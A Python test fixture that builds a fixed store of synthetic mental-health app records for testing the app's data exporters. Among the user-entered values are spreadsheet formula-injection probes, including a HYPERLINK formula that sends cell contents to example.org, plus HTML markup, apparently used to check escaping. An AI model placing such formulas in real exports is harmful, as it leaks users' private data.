"""A small fixed store that every exporter's tests look at, with identities that never change."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from uuid import UUID, uuid5

from coping_app.content.reference.places import exercises_folder
from coping_app.export.records.gather import gather
from coping_app.export.records.load_titles import load_titles
from coping_app.export.records.records import Records, Span
from coping_app.store.base.moments import moment_of
from coping_app.store.repositories.records import Card, DayMark, StoredDrawing
from coping_app.store.store import Store
from coping_app.store.travel.portable import (
    Portable,
    PortableDone,
    PortableEvent,
    PortablePlan,
    PortablePlanItem,
    PortableSession,
)

KEPT = Path(__file__).parents[2] / "data" / "export"
"""Reference files: what the fixed store exports, looked over by hand."""
NOW = datetime(2026, 3, 2, 18, 0, tzinfo=UTC)
WORDINGS = load_titles(exercises_folder())
PNG = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0:~\x9bU"
    b"\0\0\0\nIDATx\x9cc`\0\0\0\x02\0\x01H\xaf\xa4q\0\0\0\0IEND\xaeB`\x82"
)
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"here")'
_ZONE = timezone(timedelta(hours=1))
_IDS = UUID("00000000-0000-4000-8000-000000000000")


def uid(*names: object) -> str:
    """The same UUID for the same names."""
    return str(uuid5(_IDS, "/".join(map(str, names))))


def session(
    day: date,
    exercise: str = "box-breathing",
    title: str = "Box breathing",
    events: Sequence[tuple[str, dict[str, Any]]] = (),
    practised_s: float = 300.0,
) -> PortableSession:
    """One finished session at nine in the morning, an hour ahead of UTC."""
    start = datetime(day.year, day.month, day.day, 8, 0, tzinfo=UTC)
    key = uid(exercise, day)
    told = [
        ("session-begun", {"exercise_id": exercise}),
        *events,
        ("session-finished", {"practised_s": practised_s}),
    ]
    made = []
    for number, (kind, body) in enumerate(told):
        at = moment_of((start + timedelta(minutes=number)).astimezone(_ZONE))
        made.append(PortableEvent(uid(key, number), kind, body, at))
    return PortableSession(
        key, exercise, 1, title, "en", {"pace": 1.0}, made[0].moment, tuple(made)
    )


def filled(
    day: date, form: str, values: Sequence[float | None], value: float | None
) -> PortableSession:
    """A questionnaire that was gone through, with its score where there is one."""
    questionnaire = WORDINGS.questionnaires[form]
    events: list[tuple[str, dict[str, Any]]] = [
        ("answer-given", {"place": [number], "verb": "questionnaire", "answers": {item: given}})
        for number, (item, given) in enumerate(
            zip(questionnaire.item_ids, values, strict=True)
        )
    ]
    if value is not None:
        events.append(("questionnaire-scored", {"value": value, "parts": {}}))
    return session(day, f"questionnaire:{form}", questionnaire.title, events, 0.0)


def rating(moment: str, scale: str, value: int | None) -> tuple[str, dict[str, Any]]:
    return "rating-given", {"moment": moment, "scale": scale, "value": value}


def answer(**answers: Any) -> tuple[str, dict[str, Any]]:
    return "answer-given", {"place": [2], "verb": "form", "answers": answers}


def fixed_portable() -> Portable:
    """Twelve weeks: nine of box breathing, some check-ins with a gap, and one of each other."""
    sessions = [
        session(
            date(2026, 1, 5) + timedelta(days=6 * n),
            events=[
                rating("before", "pain", before),
                rating("before", "mood", 5),
                ("practice-began", {}),
                rating("after", "pain", after),
                rating("after", "mood", 5 + n % 2),
            ],
        )
        for n, (before, after) in enumerate(
            [(6, 4), (7, 6), (5, 5), (8, 5), (6, 3), (4, 4), (7, 5), (6, 6), (5, 3)]
        )
    ]
    for week, values in ((0, (3, 5, 4, 6)), (1, (4, 5, 4, 6)), (4, (5, 6, 5, 5))):
        names = ("week_function", "week_social", "week_satisfaction", "week_pain")
        given = [rating("between", name, value) for name, value in zip(names, values, strict=True)]
        given += [rating("between", "week_enjoyment", 4), rating("between", "week_activity", 7)]
        day = date(2026, 1, 11) + timedelta(weeks=week)
        told = answer(win="A walk, “slowly”;\nthen tea", half=2.5, count=3)
        sessions.append(session(day, "weekly-check-in", "My week", [*given, told], 240.0))
    sessions.append(
        session(date(2026, 2, 26), "worry-time", "Worry time", [
            rating("before", "distress", 6), rating("after", "distress", 7),
            answer(worries=[FORMULA, "-2+3", "@sum", "plain; =1+1"], skipped=None),
        ], 630.4)
    )
    sessions.append(filled(date(2026, 1, 20), "phq-4", (1, 2, 1, 2), 6.0))
    sessions.append(filled(date(2026, 2, 17), "phq-4", (1, 1, 0, 1), 3.0))
    sessions.append(filled(date(2026, 2, 24), "gad-2", (1, None), None))
    sessions.sort(key=lambda each: each.moment.utc_ms)
    return Portable(
        sessions=tuple(sessions),
        cards=(
            Card(
                uid("card"), "For my next visit", "appointment-prep",
                (
                    {"ask": "What are your top three concerns?", "name": "concerns",
                     "answer": ["sleep", "<b>work</b>"]},
                    {"ask": "What has changed?", "name": "changes", "answer": "=1+1"},
                ),
                at(date(2026, 2, 27)),
            ),
        ),
        drawings=(StoredDrawing(uid("drawing"), sessions[0].id, (3, 0), PNG,
                                  sessions[0].moment),),
        plan_items=(
            PortablePlanItem(uid("visit"), "See Dr <Ada>", "once", date(2026, 2, 20), None, (),
                             at(date(2026, 2, 1))),
            PortablePlanItem(uid("walk"), "Ten slow minutes outside", "3 a week",
                             date(2026, 1, 20), None,
                             (PortableDone(date(2026, 1, 21), at(date(2026, 1, 21)).utc_ms),),
                             at(date(2026, 1, 19))),
        ),
        plans=(PortablePlan("first-week", date(2026, 1, 5), None, at(date(2026, 1, 5)).utc_ms),),
        day_marks=(
            DayMark(uid("medicine"), date(2026, 1, 30), "+1 tablet in the <evening>",
                            at(date(2026, 1, 31))),
            DayMark(uid("holiday"), date(2026, 2, 8), "Holiday; by the sea",
                            at(date(2026, 2, 8))),
        ),
        settings={"day_start_hour": 4, "theme": "dark"},
    )


def at(day: date) -> Any:
    """Noon of a day as the store keeps it."""
    return moment_of(datetime(day.year, day.month, day.day, 12, 0, tzinfo=_ZONE))


def store_with(portable: Portable) -> Store:
    """A store in memory that holds exactly these records."""
    store = Store.in_memory(lambda: NOW)
    store.take_in(portable)
    return store


def records_of(portable: Portable, span: Span | None = None) -> Records:
    """What an export of them reads."""
    store = store_with(portable)
    try:
        return gather(store, span or Span(), WORDINGS)
    finally:
        store.close()


def fixed_records(span: Span | None = None) -> Records:
    return records_of(fixed_portable(), span)
